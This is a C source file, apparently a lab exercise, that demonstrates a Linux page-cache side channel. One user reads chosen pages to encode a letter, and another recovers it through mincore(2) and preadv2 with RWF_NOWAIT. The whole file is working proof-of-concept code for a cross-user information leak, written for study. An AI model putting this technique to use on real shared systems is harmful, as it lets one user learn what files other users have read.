/*
 * Remembered pages: the parts of a file that somebody has read lie in memory, one copy for all: the page cache. Who can ask
 * which parts are there learns what others have read. Once any reader of the file could, by mincore(2); now the owner and
 * those who may write. preadv2(2) with RWF_NOWAIT still answers every reader, on file systems that have it.
 *
 *   pages place     (student) makes a folder open to all
 *   pages visit     (other)   makes a file in it, of which nothing is in memory, and reads some pages: a letter, bit by bit
 *   pages ask       (student) may read the file, and wants to know the letter
 *
 * On a file system in memory there is nothing to fetch: there the file is one of holes, for which a page is made when it is
 * touched first. Man pages: mincore(2), readv(2) (preadv2), posix_fadvise(2), madvise(2), statfs(2).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#include "../attack.h"

#ifndef RWF_NOWAIT
#define RWF_NOWAIT 0x00000008
#endif

/* Far apart, so that what the kernel reads ahead of one is not another. */
enum { BITS = 8, APART = 64, LETTER = 'K', ALL = 0xff, ROUNDS = 100, IN_MEMORY = 0x01021994 };

static const char PLACE[] = "open-to-all", LIBRARY[] = "open-to-all/library";

static size_t page_size(void)
{
    return (size_t)sysconf(_SC_PAGESIZE);
}

static size_t file_size(void)
{
    return page_size() * APART * BITS;
}

static off_t place_of(int bit)
{
    return (off_t)(page_size() * APART * (size_t)bit);
}

static char *map_file(int fd)
{
    char *pages = mmap(NULL, file_size(), PROT_READ, MAP_SHARED, fd, 0);
    if (pages == MAP_FAILED || madvise(pages, file_size(), MADV_RANDOM) == -1)
        die("mmap");
    return pages;
}

/* --- What can be asked ------------------------------------------------------------------------------------------- */

/* A mapping of its own for each question: pages that were touched by it would be told in any case. */
static int by_mincore(int fd)
{
    int letter = 0;
    char *pages = map_file(fd);
    for (int bit = 0; bit < BITS; bit++) {
        unsigned char there;
        if (mincore(pages + place_of(bit), page_size(), &there) == -1)
            die("mincore");
        letter |= (there & 1) << bit;
    }
    if (munmap(pages, file_size()) == -1)
        die("munmap");
    return letter;
}

/* The letter, or the negative errno of a system that does not answer. */
static int by_nowait(int fd)
{
    int letter = 0;
    if (posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM) != 0)
        die("posix_fadvise");
    for (int bit = 0; bit < BITS; bit++) {
        char byte;
        struct iovec part = {.iov_base = &byte, .iov_len = 1};
        /* The position in two halves, whatever the size of a long is: readv(2). */
        long low = (long)place_of(bit), high = (long)((unsigned long long)place_of(bit) >> 32);
        long got = syscall(SYS_preadv2, fd, &part, 1ul, low, high, RWF_NOWAIT);
        if (got == -1 && errno != EAGAIN)
            return -errno;
        letter |= (got == 1) << bit;
    }
    return letter;
}

static const char *learned(int letter)
{
    if (letter < 0)
        return verdict(-letter);
    if (letter == LETTER)
        return "the letter";
    return letter == ALL ? "nothing (all pages look alike)" : letter == 0 ? "nothing (none is there)" : "something else";
}

/* --- The two users ----------------------------------------------------------------------------------------------- */

static void place(void)
{
    /* chmod, as the umask cuts what mkdir is asked for. */
    if (mkdir(PLACE, 0700) == -1 || chmod(PLACE, 0777) == -1)
        die(PLACE);
    printf("{\"placed\": true}\n");
}

static bool in_memory(int fd)
{
    struct statfs about;
    if (fstatfs(fd, &about) == -1)
        die("fstatfs");
    return about.f_type == IN_MEMORY; /* TMPFS_MAGIC: statfs(2) */
}

/* Written to the disk, then forgotten. A page that is in use just then stays: so again. */
static void write_and_forget(int fd)
{
    char *block = calloc(1, page_size());
    if (block == NULL)
        die("calloc");
    memset(block, 'x', page_size());
    for (size_t done = 0; done < file_size(); done += page_size())
        if (write(fd, block, page_size()) != (ssize_t)page_size())
            die("write");
    free(block);
    for (int round = 0; round < ROUNDS && by_mincore(fd) != 0; round++)
        if (fsync(fd) == -1 || posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED) != 0)
            die("forgetting");
}

static void visit(void)
{
    int fd = open(LIBRARY, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd == -1)
        die(LIBRARY);
    bool memory = in_memory(fd);
    if (!memory)
        write_and_forget(fd);
    else if (ftruncate(fd, (off_t)file_size()) == -1)
        die("ftruncate");
    const char *before = learned(by_mincore(fd));
    char *pages = map_file(fd);
    for (int bit = 0; bit < BITS; bit++)
        if (LETTER >> bit & 1)
            (void)*(volatile char *)(pages + place_of(bit));
    if (munmap(pages, file_size()) == -1)
        die("munmap");
    printf("{\"file_system\": \"%s\", \"before\": \"%s\", ", memory ? "in memory" : "on a disk", before);
    printf("\"owner\": \"%s\"}\n", learned(by_mincore(fd)));
    close(fd);
}

static void ask(void)
{
    int fd = open(LIBRARY, O_RDONLY | O_CLOEXEC);
    if (fd == -1)
        die(LIBRARY);
    printf("{\"reader\": \"%s\", ", learned(by_mincore(fd)));
    printf("\"reader_nowait\": \"%s\"}\n", learned(by_nowait(fd)));
    close(fd);
}

int main(int argc, char *argv[])
{
    const char *what = argc == 2 ? argv[1] : "";
    if (strcmp(what, "place") == 0)
        place();
    else if (strcmp(what, "visit") == 0)
        visit();
    else
        ask();
    return 0;
}
